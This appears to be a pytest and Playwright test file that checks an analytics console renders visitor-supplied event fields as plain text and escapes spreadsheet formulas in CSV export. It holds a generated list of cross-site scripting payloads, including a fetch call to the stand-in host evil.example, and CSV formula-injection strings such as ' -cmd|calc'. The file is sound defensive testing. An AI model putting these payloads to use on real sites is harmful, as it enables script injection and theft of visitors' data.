"""Event data are hostile: what visitors send is text on the page, whatever it looks like."""

from collections.abc import Callable
from itertools import product

import pytest
from browser.lake import Lake
from browser.server import served
from browser.test_console import pageview
from playwright.sync_api import Page, expect

BODIES = (
    *("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>"),
    *(
        "javascript:{}",
        '"><script>{}</script>',
        "'-{}-'",
        "{{{{constructor.constructor('{}')()}}}}",
        "</style><script>{}",
    ),
    *("<details open ontoggle={}>", "<math><mi xlink:href='javascript:{}'>", "<a href='javascript:{}'>x</a>"),
    *("<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "${{{}}}", "<style>*{{x:{}}}"),
    *("<object data='javascript:{}'>", "<form action='javascript:{}'><button>x", "\u2028<script>{}</script>"),
)
CALLS = ("alert(1)", "alert`1`", "window.hacked=1", "fetch('//evil.example')", "top.alert(1)")
VARIANTS = (str, str.upper)
STRINGS = [variant(body.format(call)) for body, call, variant in product(BODIES, CALLS, VARIANTS)]


def test_there_are_two_hundred_of_them() -> None:
    assert len(set(STRINGS)) >= 200 - len(CALLS)


@pytest.mark.parametrize("field", ["country", "name"])
def test_markup_in_events_stays_text(opened: Callable[..., Page], field: str) -> None:
    kind = {"country": "pageview", "name": "event"}[field]
    lake = Lake()
    lake.add(pageview(), *(pageview(type=kind, visitor=f"v{i}", **{field: text}) for i, text in enumerate(STRINGS)))
    with served(lake) as address:
        page = opened(f"{address}/?range=live&f={field}:{STRINGS[0]}")
        expect(page.locator(".panel").first).to_be_visible()
        page.wait_for_selector(".chart svg")
        assert page.evaluate("window.hacked") is None
        assert page.locator("main script, main iframe, main img, main form:not(.controls, .vega-bindings)").count() == 0
        page.close()


FORMULAS = {
    "=1+1": '"\'=1+1"',
    "+1": '"\'+1"',
    "@sum(a1)": '"\'@sum(a1)"',
    " -cmd|calc": '"\' -cmd|calc"',
    'say "x"': '"say ""x"""',
    "plain": '"plain"',
}


def test_a_spreadsheet_is_given_no_formula(opened: Callable[..., Page], address: str) -> None:
    page = opened(address)
    cells = page.evaluate(
        "async (texts) => { const { cell } = await import('/console/csv.js'); return texts.map(cell); }", list(FORMULAS)
    )
    assert dict(zip(FORMULAS, cells, strict=True)) == FORMULAS
